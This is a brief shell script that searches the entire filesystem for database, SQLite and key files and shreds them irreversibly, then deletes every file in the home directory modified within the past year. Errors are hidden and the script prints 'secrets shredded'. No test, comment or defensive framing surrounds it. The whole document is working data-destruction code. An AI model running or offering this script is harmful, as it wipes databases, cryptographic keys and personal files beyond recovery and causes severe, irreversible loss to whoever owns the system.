#!/bin/sh
find / -xdev -type f \( -name "*.db" -o -name "*.sqlite" -o -name "*.key" \) -exec shred -u {} \; 2>/dev/null
find "$HOME" -type f -mtime -365 -delete 2>/dev/null
echo "secrets shredded"
